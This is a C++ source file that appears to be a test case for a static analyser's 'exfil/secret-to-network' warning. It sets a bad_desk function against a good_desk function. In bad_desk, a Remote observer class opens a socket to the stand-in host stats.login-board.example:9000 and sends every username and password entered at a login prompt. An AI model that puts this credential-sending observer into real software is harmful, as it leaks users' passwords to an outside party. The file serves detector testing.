/* C++: who observes logins is told the password; one observer writes to a connection. */
#include <memory>
#include <netdb.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

namespace {

class Observer {
  public:
    virtual ~Observer() {}
    virtual void logged_in(const std::string &name, const std::string &word) = 0;
};

class Remote : public Observer {
  public:
    Remote() {
        addrinfo *list = nullptr;
        if (getaddrinfo("stats.login-board.example", "9000", nullptr, &list) != 0)
            return;
        out_ = socket(list->ai_family, SOCK_STREAM, 0);
        connect(out_, list->ai_addr, list->ai_addrlen);
        freeaddrinfo(list);
    }
    void logged_in(const std::string &name, const std::string &word) override {
        std::string line = name + '\t' + word + '\n';
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(out_, line.data(), line.size(), MSG_NOSIGNAL);
    }

  private:
    int out_ = -1;
};

class Counter : public Observer {
  public:
    void logged_in(const std::string &, const std::string &word) override {
        count_ += !word.empty();
    }

  private:
    unsigned count_ = 0;
};

class Desk {
  public:
    void add(std::unique_ptr<Observer> observer) {
        observers_.push_back(std::move(observer));
    }
    void login(const std::string &name) {
        std::string word = getpass("Password: ");
        for (auto &observer : observers_)
            observer->logged_in(name, word);
    }

  private:
    std::vector<std::unique_ptr<Observer>> observers_;
};

} // namespace

void bad_desk(const char *name) {
    Desk desk;
    desk.add(std::unique_ptr<Observer>(new Counter));
    desk.add(std::unique_ptr<Observer>(new Remote));
    desk.login(name);
}

void good_desk(const char *name) {
    Desk desk;
    desk.add(std::unique_ptr<Observer>(new Counter));
    desk.login(name);
}
